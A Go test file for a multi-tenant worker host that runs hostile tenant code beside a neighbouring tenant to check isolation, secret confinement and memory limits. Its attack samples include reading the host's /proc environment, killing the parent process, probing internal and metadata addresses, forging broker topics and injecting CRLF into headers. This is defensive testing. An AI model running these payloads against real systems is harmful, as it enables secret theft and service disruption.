package host_test

import (
	"bytes"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"runtime/debug"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/nats-io/nats.go/jetstream"
	"github.com/pleme-io/lifecycle-go/fleet/broker"
	"github.com/pleme-io/lifecycle-go/fleet/broker/brokertest"
	"github.com/pleme-io/lifecycle-go/fleet/host"

	"github.com/pleme-io/lifecycle-go/fleet/host/engine"
	"github.com/pleme-io/lifecycle-go/fleet/host/engine/js"
	"github.com/pleme-io/lifecycle-go/fleet/host/engine/python"
	"github.com/pleme-io/lifecycle-go/fleet/host/engine/starlark"
	"github.com/pleme-io/lifecycle-go/fleet/host/engine/wasm"
	"github.com/pleme-io/lifecycle-go/fleet/host/internal/attacks"
	"github.com/pleme-io/lifecycle-go/fleet/host/outbound"
)

// against is an attack on the host, on its memory, or on what belongs to another tenant, by a worker
// that a tenant may bring. All of them run with HOST_ATTACKS=all, as "make chaos" does; otherwise
// those that are brief.
type against struct {
	name, mime, code string
	brief            bool
	workers          int    // at once; 0 is one
	text             string // of its messages
	limits           engine.Limits
	spec             func(*host.Spec) // changes the worker; nil changes nothing

	// How it ends. Without any of these it may end in each way that reaches nothing.
	answer string // its only output
	reason string // in the error of Create, or in the reason of each dead letter
}

// attacksOnTheChild are those of TestAttacksEndTheirChild and TestPythonReachesNothing in package
// isolate, which try each child alone. Here they run beside a neighbour.
func attacksOnTheChild(t *testing.T) (list []against) {
	mime := map[string]string{"js": jsCode, "starlark": starlarkCode, "wasm": wasm.MIMEType, "python": pythonCode}
	for language, all := range attacks.Ends {
		for _, a := range all {
			tight := engine.Limits{Time: 300 * time.Millisecond, Memory: 64 << 20}
			if strings.HasPrefix(a.Code, "load:") {
				tight.Load = time.Second
			}
			list = append(list, against{
				name:   a.Name + " in " + language,
				mime:   mime[language],
				code:   string(attacks.Handler(language, a.Code)),
				text:   strings.Repeat("a", 40) + "!",
				limits: tight,
			})
		}
	}
	dir := t.TempDir()
	file, socket := filepath.Join(dir, "private"), filepath.Join(dir, "socket")
	must(t, os.WriteFile(file, []byte("s3cr3t"), 0o600))
	unix, err := net.Listen("unix", socket)
	must(t, err)
	t.Cleanup(func() { unix.Close() })
	tcp, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	t.Cleanup(func() { tcp.Close() })
	t.Setenv("HOST_SECRET", "s3cr3t")
	reach := attacks.Reach("message.text", file, socket, tcp.Addr().(*net.TCPAddr).Port)
	for i, a := range attacks.Reaches {
		list = append(list, against{name: a.Name, mime: pythonCode, code: string(reach), text: strconv.Itoa(i), answer: "denied"})
	}
	return list
}

// allAttacks says that those run too which are not brief, and each with a second message: the next
// one is handled as well.
var allAttacks = os.Getenv("HOST_ATTACKS") == "all"

// quick are the limits of attacks that take all of their time, and patient those of attacks that end
// at once, however slow the machine is.
var (
	quick   = engine.Limits{Time: time.Second}
	patient = engine.Limits{Time: 20 * time.Second}
)

// limitsOf returns the limits of an attack that ends for a reason.
func limitsOf(reason string) engine.Limits {
	if reason == "" || strings.HasPrefix(reason, "time limit") {
		return quick
	}
	return patient
}

// inPython returns code whose handler runs body. The runner's own functions are in g: the child
// believes what the code makes of them.
func inPython(body string) string {
	return "import os, threading, time, json\ng = fetch.__globals__\n" +
		"g['limit_output'] = g['limit_outputs'] = g['limit_call'] = 1 << 40\ng['plain'] = lambda value, level=0: value\n" +
		"def handle(message):\n    " + strings.ReplaceAll(body, "\n", "\n    ") + "\n"
}

func inJS(body string) string {
	return "function handle(message) {\n" + body + "\n}"
}

const (
	pythonCode   = "text/x-python"
	jsCode       = "text/javascript"
	starlarkCode = "text/x-starlark"
)

var attacksOnTheHost = []against{
	// Answers that are larger than they may be, by a child that does not check them.
	{name: "a large output", mime: pythonCode, code: inPython(`return "x" * (60 << 20)`), brief: true},
	{name: "many outputs", mime: pythonCode, code: inPython(`return [{}] * 3000000`), brief: true},
	{name: "many large outputs", mime: pythonCode, code: inPython(`return ["x" * (1 << 20)] * 60`)},
	{name: "many headers", mime: pythonCode, code: inPython(`return {"data": "", "headers": {str(i): "x" for i in range(200000)}}`)},
	{name: "a large header", mime: pythonCode, code: inPython(`return {"data": "", "headers": {"A": "x" * (30 << 20)}}`)},
	{name: "a deep result", mime: pythonCode, code: inPython(`g["query"].send({"answer": {"result": json.loads("[" * 900 + "]" * 900)}})`)},
	{name: "parts without end", mime: pythonCode, code: inPython("while True:\n    g['query'].send({'answer': {'result': 'x' * (60 << 10)}})"), brief: true},
	{name: "large parts", mime: pythonCode, code: inPython("for i in range(16):\n    g['query'].send({'answer': {'result': 'x' * (60 << 20)}})")},
	{name: "lines without end", mime: pythonCode, code: inPython("while True:\n    g['query'].send({'print': ''})"), brief: true},
	{name: "large lines", mime: pythonCode, code: inPython("for i in range(100):\n    g['query'].send({'print': 'x' * (8 << 20)})")},
	{name: "raw frames", mime: pythonCode, code: inPython("for fd in range(3, 20):\n    try:\n        os.write(fd, b'{\"a\":' + b'[' * (40 << 20) + b'\\n')\n    except OSError:\n        pass"), brief: true},
	{name: "a frame without end", mime: pythonCode, code: inPython("while True:\n    for fd in range(3, 20):\n        try:\n            os.write(fd, b'x' * 65536)\n        except OSError:\n            pass")},
	{name: "calls at once", mime: pythonCode, code: inPython("def put(i):\n    state.put(str(i), 'x' * (4 << 20))\nts = [threading.Thread(target=put, args=(i,), daemon=True) for i in range(32)]\n[t.start() for t in ts]\n[t.join() for t in ts]"), brief: true},
	{name: "five at once", mime: pythonCode, code: inPython(`return ["x" * (1 << 20)] * 60`), workers: 5, brief: true},
	{name: "five with parts", mime: pythonCode, code: inPython("while True:\n    g['query'].send({'answer': {'result': 'x' * (900 << 10)}})"), workers: 5},
	{name: "a large error", mime: pythonCode, code: inPython(`raise Exception("x" * (50 << 20))`)},
	{name: "a large reason", mime: pythonCode, code: inPython(`reject("x" * (50 << 20))`)},
	{name: "half a character", mime: pythonCode, code: inPython(`return {"topic": "out.evil", "data": "\ud800"}`)},
	{name: "no number", mime: pythonCode, code: inPython(`return float("nan")`)},
	// State, timers and lines within and beyond their limits.
	{name: "much state", mime: pythonCode, code: inPython("for i in range(8):\n    state.put(str(i), 'x' * (1000 << 10))")},
	{name: "more state", mime: pythonCode, code: inPython("for i in range(600):\n    state.put(str(i), 'x' * (64 << 10))"), brief: true},
	{name: "a large key", mime: pythonCode, code: inPython(`state.put("k" * (4 << 20), "x")`)},
	{name: "a key with wildcards", mime: pythonCode, code: inPython("return str([state.get(k) for k in ('>', '*', '*.*', '../good', 'w-good.card')])"), brief: true},
	{name: "many timers", mime: pythonCode, code: inPython("for i in range(200):\n    timers.set(str(i), 3600000, 'x' * (16 << 10))")},
	{name: "many lines", mime: pythonCode, code: inPython("print('\\n' * 1000000)"), brief: true},
	// The processor and the processes.
	{name: "many threads", mime: pythonCode, code: inPython("threading.stack_size(32768)\nfor i in range(6000):\n    threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()")},
	{name: "sleepers", mime: pythonCode, code: inPython("time.sleep(1000)"), workers: 12},
	{name: "the end of the host", mime: pythonCode, code: inPython("os.kill(os.getppid(), 9)"), brief: true},
	{name: "the end of itself", mime: pythonCode, code: inPython("os._exit(0)")},
	// What belongs to others.
	{name: "the environment of the host", mime: pythonCode, code: inPython(`return open("/proc/%d/environ" % os.getppid()).read()`), brief: true},
	{name: "the memory of the host", mime: pythonCode, code: inPython(`return open("/proc/%d/maps" % os.getppid()).read()`)},
	{name: "the server", mime: pythonCode, code: inPython(`return fetch("http://127.0.0.1:4222/").text`)},
	{name: "another tenant's secret", mime: pythonCode, code: inPython(`return fetch("https://example.com/", headers={"Authorization": "${CARD}"}).text`)},
	{name: "a forged record", mime: starlarkCode, code: `def handle(m): return {"topic": "$KV.HOST_WORKERS.good", "data": "{}"}`, brief: true},
	{name: "forged state", mime: starlarkCode, code: `def handle(m): return {"topic": "$host.state.w-good.fence", "data": "99"}`, brief: true},
	{name: "a forged log", mime: starlarkCode, code: `def handle(m): return {"topic": "$host.log.w-good", "data": "{}"}`},
	{name: "a purge", mime: starlarkCode, code: `def handle(m): return {"topic": "$JS.API.STREAM.PURGE.HOST_STATE", "data": ""}`},
	{name: "a forged timer", mime: starlarkCode, code: `def handle(m): return {"topic": "out.evil", "data": "x", "headers": {"Lifecycle-Timer": "t", "Lifecycle-For": "w-good"}}`},
	{name: "a topic with a line", mime: starlarkCode, code: `def handle(m): return {"topic": "out.evil\r\nPUB x 0", "data": "x"}`},
	{name: "a header with a line", mime: starlarkCode, code: `def handle(m): return {"topic": "out.evil", "data": "x", "headers": {"A\r\nB": "x\r\nC: y"}}`},
	{name: "a rollup", mime: starlarkCode, code: `def handle(m): return {"topic": "out.evil", "data": "x", "headers": {"Nats-Rollup": "all"}}`, brief: true},
	{name: "a message's id", mime: starlarkCode, code: `def handle(m): return {"topic": "out.evil", "data": "x", "headers": {"Nats-Msg-Id": "w-good"}}`},
	{name: "a message's time to live", mime: starlarkCode, code: `def handle(m): return {"topic": "out.evil", "data": "x", "headers": {"Nats-TTL": "1s"}}`},
	{name: "a batch", mime: starlarkCode, code: `def handle(m): return {"topic": "out.evil", "data": "x", "headers": {"Nats-Batch-Id": "b", "Nats-Batch-Sequence": "1"}}`},
	{name: "a sequence", mime: starlarkCode, code: `def handle(m): return {"topic": "out.evil", "data": "x", "headers": {"Nats-Expected-Last-Sequence": "1"}}`},
	{name: "a schedule", mime: starlarkCode, code: `def handle(m): return {"topic": "out.evil", "data": "x", "headers": {"Nats-Schedule": "@every 1s", "Nats-Schedule-Target": "work.good"}}`},
	// The other languages.
	{name: "a prototype in JavaScript", mime: jsCode, code: inJS(`Object.prototype.topic = "$KV.HOST_WORKERS.good"; return {data: "{}"}`)},
	{name: "many outputs in JavaScript", mime: jsCode, code: inJS(`return Array.from({length: 1e6}, () => ({}))`), brief: true},
	{name: "a large output in JavaScript", mime: jsCode, code: inJS(`return "x".repeat(40 << 20)`)},
	{name: "lines in JavaScript", mime: jsCode, code: inJS(`for (;;) console.log("")`)},
	{name: "state in JavaScript", mime: jsCode, code: inJS(`for (let i = 0; ; i++) state.put("k" + i, "x".repeat(100000))`)},
	{name: "many outputs in Starlark", mime: starlarkCode, code: `def handle(m): return [{}] * 1000000`},
	{name: "state in Starlark", mime: starlarkCode, code: "def handle(m):\n    for i in range(10000): state.put(str(i), 'x' * 100000)"},
	{name: "large code", mime: starlarkCode, code: "def handle(m): return 'x'\n" + strings.Repeat("# "+strings.Repeat("x", 997)+"\n", 30_000)},
}

// residentMemory returns the memory of this process.
func residentMemory(t *testing.T) int64 {
	t.Helper()
	text, err := os.ReadFile("/proc/self/status")
	if err != nil {
		t.Skip("the test reads its memory from /proc, which is not here")
	}
	for line := range bytes.Lines(text) {
		if rest, ok := bytes.CutPrefix(line, []byte("VmRSS:")); ok {
			n, err := strconv.ParseInt(string(bytes.Fields(rest)[0]), 10, 64)
			must(t, err)
			return n << 10
		}
	}
	t.Fatal("/proc/self/status has no VmRSS")
	return 0
}

// TestAttacksOnTheHost runs attacks of one tenant beside a neighbour of another tenant. After each,
// and during it, the neighbour answers within ten seconds. The attacker gets nothing of the
// neighbour's, and the process of the host does not grow by more than 256 MiB.
func TestAttacksOnTheHost(t *testing.T) {
	const card = "card-4711-0815"
	t.Setenv("HOST_TEST_CARD", card)
	py, err := python.New()
	if err != nil {
		t.Skip(err)
	}
	engines, err := engine.NewRegistry(py, js.New(), starlark.New(), wasm.New())
	must(t, err)
	// What the network has that belongs to others.
	internal := internalServer(t, card)
	// The server has a process of its own, so that this one has the memory of the host alone.
	servers := brokertest.StartCluster(t, 1)
	r := rigOn(t, brokertest.Connect(t, broker.Config{URL: servers.URL()}), 1)
	r.tune = func(c *host.Config) {
		c.Engines = engines
		c.MaxRetries, c.DrainTimeout = host.NoRetry, time.Second
		c.MemoryBudget = 128 << 20
		c.Limits = engine.Limits{Time: patient.Time, Load: 30 * time.Second, Memory: 256 << 20}
		c.HTTP = outbound.Policy{Timeout: 5 * time.Second}
		c.Grants = map[string]host.Grant{
			"good":   {Secrets: map[string]string{"CARD": "env:HOST_TEST_CARD"}},
			"bound":  {Topics: []string{"work.bound"}, Outputs: []string{"out.evil"}},
			"signed": {Keys: map[string]string{"release": strings.Repeat("A", 43) + "="}},
			"evil":   {HTTP: host.HTTPGrant{Allow: patternsOf(addresses(internal))}},
			"caller": {
				Secrets: map[string]string{"TOKEN": "env:HOST_TEST_CARD"},
				HTTP: host.HTTPGrant{
					Allow:    []string{internal + "/v1/*", "http://169.254.169.254/*"},
					Networks: []string{"127.0.0.1/32"},
					Secrets:  map[string]host.HTTPSecret{"TOKEN": {Header: "Authorization", URL: internal + "/v1/own/*"}},
				},
			},
		}
	}
	h := r.start("a")
	create(t, h, host.Spec{
		ID:          "good",
		Tenant:      "good",
		MIMEType:    jsCode,
		Topic:       "work.good",
		OutputTopic: "out.good",
		Secrets:     []string{"CARD"},
		Code: []byte(`function handle(m) {
			if (m.text === env.CARD) reject(m.text)
			timers.set("card", 3600000, env.CARD); state.put("card", env.CARD); return m.text
		}`),
	})
	r.publish("work.good", card)
	r.letters(h, "good", 1)
	work, err := r.js.Stream(t.Context(), "WORK")
	must(t, err)
	asked := 0
	neighbour := func(when string) {
		t.Helper()
		began := time.Now()
		asked++
		r.publish("work.good", strconv.Itoa(asked))
		r.eventually("the neighbour answers "+when, func() bool {
			info, err := work.Info(t.Context(), jetstream.WithSubjectFilter("out.good"))
			return err == nil && info.State.Subjects["out.good"] >= uint64(asked)
		})
		if took := time.Since(began); took > 10*time.Second && allAttacks {
			t.Errorf("%s the neighbour answered after %v", when, took)
		}
	}
	neighbour("at rest")
	all := slices.Concat(attacksOnTheHost, attacksOnTheWire, attacksOnTheBus, attacksOnTheNetwork(internal), attacksOnTheChild(t))
	debug.FreeOSMemory()
	rest := residentMemory(t)
	var most atomic.Int64
	stop, stopped := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(stopped)
		for {
			most.Store(max(most.Load(), residentMemory(t)))
			select {
			case <-stop:
				return
			case <-time.After(20 * time.Millisecond):
			}
		}
	}()
	defer func() {
		close(stop)
		<-stopped
		grown := most.Load() - rest
		t.Logf("the process has grown by %d MiB", grown>>20)
		if grown > 256<<20 && !raceDetector {
			t.Errorf("the process has grown by %d MiB", grown>>20)
		}
	}()
	messages := 1
	if allAttacks {
		messages = 2
	}
	apiAttacks(t, r, h, card, neighbour)
	debug.FreeOSMemory() // what the client has had
	for i, a := range all {
		if !a.brief && !allAttacks {
			continue
		}
		t.Run(a.name, func(t *testing.T) {
			if residentMemory(t)-rest > 64<<20 {
				debug.FreeOSMemory() // what the attacks before had, and the runtime keeps for later
			}
			before := most.Load()
			ends := 0
			ended := func(reason string) {
				t.Helper()
				ends++
				t.Logf("%.200s", reason)
				if !strings.Contains(reason, a.reason) || strings.Contains(reason, card) || len(reason) > 100<<10 {
					t.Errorf("it ended with %d bytes: %.300q, want %q", len(reason), reason, a.reason)
				}
			}
			limits := a.limits
			switch {
			case limits != engine.Limits{}:
			case a.reason != "":
				limits = limitsOf(a.reason)
			default:
				limits = engine.Limits{Time: 3 * time.Second}
			}
			var ids []string
			for w := range max(1, a.workers) {
				id := fmt.Sprintf("evil-%d-%d", i, w)
				spec := host.Spec{
					ID:          id,
					Tenant:      "evil",
					MIMEType:    a.mime,
					Topic:       "work." + id,
					OutputTopic: "out.evil",
					Code:        []byte(a.code),
					Limits:      limits,
				}
				if a.spec != nil {
					a.spec(&spec)
				}
				if _, err := h.Create(t.Context(), spec); err != nil {
					ended(err.Error())
					continue
				}
				ids = append(ids, spec.ID)
				r.publish(spec.Topic, slices.Repeat([]string{a.text}, messages)...)
			}
			neighbour("during the attack")
			r.eventually("the attack is over", func() bool {
				handled := 0
				for _, tally := range h.Tallies() {
					for _, id := range ids {
						if tally.Worker == id {
							handled += int(tally.Succeeded + tally.DeadLetters)
						}
					}
				}
				return handled >= messages*len(ids)
			})
			neighbour("after the attack")
			for _, id := range ids {
				lines, err := h.Logs(t.Context(), id, 0, host.MaxLines)
				must(t, err)
				for _, line := range lines {
					if strings.Contains(line.Text, card) {
						t.Errorf("its log has the neighbour's: %.200q", line.Text)
					}
				}
				must(t, h.Delete(t.Context(), id))
				letters, err := h.DeadLetters(t.Context(), id, 0, 10)
				if !errors.Is(err, host.ErrNotFound) { // it has no letters
					must(t, err)
				}
				for _, l := range letters {
					ended(l.Reason)
				}
			}
			if a.reason != "" && ends == 0 {
				t.Errorf("it ended well, want %q", a.reason)
			}
			if now := most.Load(); now > before {
				t.Logf("the process has grown by %d MiB", (now-rest)>>20)
			}
			for _, output := range r.outputs("out.evil") {
				if strings.Contains(output, card) {
					t.Errorf("it got the neighbour's: %.200q", output)
				}
				if a.answer != "" && output != a.answer {
					t.Errorf("it got %.200q", output)
				}
			}
			if a.answer != "" && len(r.outputs("out.evil")) == 0 {
				t.Error("it did not run")
			}
			must(t, work.Purge(t.Context(), jetstream.WithPurgeSubject("out.evil")))
		})
	}
	rec, err := h.Get(t.Context(), "good")
	if err != nil || rec.State != host.StateRunning {
		t.Errorf("the neighbour is %+v, %v", rec, err)
	}
	r.letters(h, "good", 1)
	for i, output := range r.outputs("out.good") {
		if want := strconv.Itoa(i + 1); output != want {
			t.Fatalf("output %d of the neighbour is %q", i+1, output)
		}
	}
}
